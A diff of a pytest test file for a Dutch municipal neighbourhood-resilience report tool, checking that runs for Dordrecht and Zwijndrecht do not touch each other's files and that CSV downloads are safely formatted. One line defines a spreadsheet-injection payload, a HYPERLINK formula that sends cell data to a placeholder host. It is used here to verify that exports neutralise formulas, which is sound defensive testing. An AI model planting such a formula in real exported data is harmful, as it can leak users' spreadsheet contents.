@@ -85,8 +85,25 @@ def test_comparison_municipalities(monkeypatch):
 # --- Dordrecht end-to-end, then Zwijndrecht, then a bad code -------------------------------------------
 
 
+def _municipality(env: Path, code: str) -> dict[str, str]:
+    """Every file of one municipality's processed/ and outputs/ folders with its content hash."""
+    return _tree(env / "processed" / code) | {f"out/{k}": v for k, v in _tree(env / "outputs" / code).items()}
+
+
 @pytest.fixture(scope="module")
-def dordrecht(env):
+def zwijndrecht_first(env, analysed):
+    """Zwijndrecht (the settings' default municipality) built and analysed before Dordrecht runs:
+    the session's shared build and analysis, copied in (test_a_second_municipality_leaves_the_first_intact).
+    Returns its paths and the hash of every file of it."""
+    zw = default_paths("GM0642")
+    shutil.copytree(analysed.processed, zw.processed)
+    for sub in ("resilience", "goals"):
+        shutil.copytree(analysed.outputs / sub, zw.outputs / sub)
+    return zw, _municipality(env, "GM0642")
+
+
+@pytest.fixture(scope="module")
+def dordrecht(env, zwijndrecht_first):
     rc = cli.main(["--gemeente", "GM0505", "report", "--only", "GM0505", "BU05050100", "--workers", "1"])
     assert rc == 0
     return default_paths("GM0505")
@@ -126,27 +143,91 @@ def test_dordrecht_sheets_say_there_are_no_programme_goals(dordrecht):
         html = (dordrecht.outputs / "factsheets" / e["file"]).read_text()
         assert "Geen focusgebieden/programmadoelen voor deze gemeente" in html
         assert "Veerkrachtige Buurten Dordrecht" in html and "Zwijndrecht (GM0642)" in html
-        assert "Focusbuurt van het programma" not in html and "<th>Kans gehaald</th>" not in html
+        assert "Focusbuurt van het programma" not in html and "Kans gehaald" not in html  # no goals table
     index = (dordrecht.outputs / "factsheets" / "index.html").read_text()
     assert "Kaart van de buurten van Dordrecht" in index and "Veerkrachtige Buurten Dordrecht" in index
     assert "Focusgebieden met een stippellijn" not in index and "grens focusgebied" not in index
 
 
-def test_a_second_municipality_leaves_the_first_intact(env, dordrecht):
-    before = _tree(env / "processed" / "GM0505") | {
-        f"out/{k}": v for k, v in _tree(env / "outputs" / "GM0505").items()
-    }
-    assert cli.main(["--gemeente", "GM0642", "report", "--only", "FG00", "--workers", "1"]) == 0
-    after = _tree(env / "processed" / "GM0505") | {
-        f"out/{k}": v for k, v in _tree(env / "outputs" / "GM0505").items()
-    }
-    assert after == before
-    zw = default_paths("GM0642")
+# a focus-area name that is a spreadsheet formula (test_csv_downloads_neutralise_formulas_and_round_as_shown)
+FORMULA = '=HYPERLINK("http://example.invalid/?x="&A1,"klik")'
+
+
+@pytest.fixture(scope="module")
+def zwijndrecht_after_dordrecht(env, zwijndrecht_first, dordrecht):
+    """After Dordrecht's report (the `dordrecht` fixture): whether Zwijndrecht's files stayed as they
+    were; then one Zwijndrecht sheet, FG00 with its name planted as a spreadsheet formula, made by
+    `veerkracht factsheets` in the same process, and whether Dordrecht's files stayed as they were
+    meanwhile. One sheet (one kernel) serves the two tests that read it."""
+    zw, before = zwijndrecht_first
+    seen = {"zwijndrecht_intact": _municipality(env, "GM0642") == before}
+    first = _municipality(env, "GM0505")
     regions = gpd.read_file(zw.regions, layer="regions")
-    assert (regions["level"] == "focusgebied").sum() == 16  # the programme's focus areas and FG00
-    assert (zw.outputs / "goals" / "status.parquet").exists()
-    html = (zw.outputs / "factsheets" / "fg00-alle-focusbuurten-samen.html").read_text()
+    regions.loc[regions["region_code"] == "FG00", "name"] = FORMULA
+    zw.regions.unlink()
+    regions.to_file(zw.regions, layer="regions", driver="GPKG")
+    seen["rc"] = cli.main(
+        ["--gemeente", "GM0642", "factsheets", "--only", "FG00", "--force", "--workers", "1"]
+    )
+    seen["dordrecht_intact"] = _municipality(env, "GM0505") == first
+    seen["pages"] = sorted((zw.outputs / "factsheets").glob("fg00-*.html"))
+    return seen
+
+
+def test_a_second_municipality_leaves_the_first_intact(zwijndrecht_after_dordrecht):
+    """Dordrecht's whole report (build, resilience, goals, sheets) runs while Zwijndrecht's build and
+    analysis are in place; then a Zwijndrecht sheet after Dordrecht's run in one process."""
+    seen = zwijndrecht_after_dordrecht
+    # catches a stage that writes to the default municipality's folders (settings: GM0642) or to
+    # folders shared by municipalities instead of those of --gemeente
+    assert seen["zwijndrecht_intact"]
+    # the other way round: the Zwijndrecht run after Dordrecht's leaves Dordrecht's files as they
+    # are, and its sheet still has the programme (catches state of the Dordrecht run kept in the
+    # process: Dordrecht's "no programme" or its areas)
+    assert seen["rc"] == 0 and seen["dordrecht_intact"]
+    assert len(seen["pages"]) == 1
+    html = seen["pages"][0].read_text(encoding="utf-8")
     assert "Programmadoelen" in html and "Geen focusgebieden/programmadoelen" not in html
+    assert "<th>Kans gehaald*</th>" in html and "neemt ze niet mee" not in html  # the goals table
+    assert "Factsheet Veerkrachtige Buurten Zwijndrecht" in html
+
+
+def _csv_links(html: str) -> dict[str, str]:
+    import re
+    import urllib.parse
+
+    found = re.findall(r'download="([^"]+\.csv)" href="data:text/csv;charset=utf-8,([^"]+)"', html)
+    return {name: urllib.parse.unquote(data) for name, data in found}
+
+
+def test_csv_downloads_neutralise_formulas_and_round_as_shown(zwijndrecht_after_dordrecht):
+    """A focus-area name that is a spreadsheet formula stays text in the sheet's CSV downloads, and
+    the downloads write whole years and numbers rounded as the page shows them (issue 27, issue 23
+    item 6), through `veerkracht factsheets` (the FG00 sheet of `zwijndrecht_after_dordrecht`)."""
+    import csv
+    import io
+    import re
+
+    assert zwijndrecht_after_dordrecht["rc"] == 0
+    pages = [p for p in zwijndrecht_after_dordrecht["pages"] if "kerncijfers-fg00.csv" in p.read_text()]
+    assert len(pages) == 1
+    links = _csv_links(pages[0].read_text(encoding="utf-8"))
+    assert {"kerncijfers-fg00.csv", "doelen-fg00.csv"} <= set(links)
+    for name, text in links.items():
+        rows = list(csv.DictReader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"))
+        assert rows, name
+        for r in rows:
+            for col, cell in r.items():
+                assert not cell.startswith(("=", "+", "@", "\t", "\r")), (name, col, cell)
+                if cell.startswith("-"):  # only a negative number may start with a minus
+                    assert re.fullmatch(r"-\d+(,\d+)?", cell), (name, col, cell)
+                if col.endswith("jaar") and not col.endswith("per_jaar") and cell:
+                    assert re.fullmatch(r"\d{4}", cell), (name, col, cell)  # 2040, never 2040,0
+                assert not re.fullmatch(r"-?\d+\.\d+", cell), (name, col, cell)  # decimal comma
+                assert not re.fullmatch(r"-?\d+,\d{3,}", cell), (name, col, cell)  # rounded as shown
+    kern = list(csv.DictReader(io.StringIO(links["kerncijfers-fg00.csv"].lstrip("\ufeff")), delimiter=";"))
+    names = {r["gebied"] for r in kern}
+    assert "'" + FORMULA in names  # the name is kept as text, with the quote Excel hides
 
 
 @pytest.mark.parametrize(
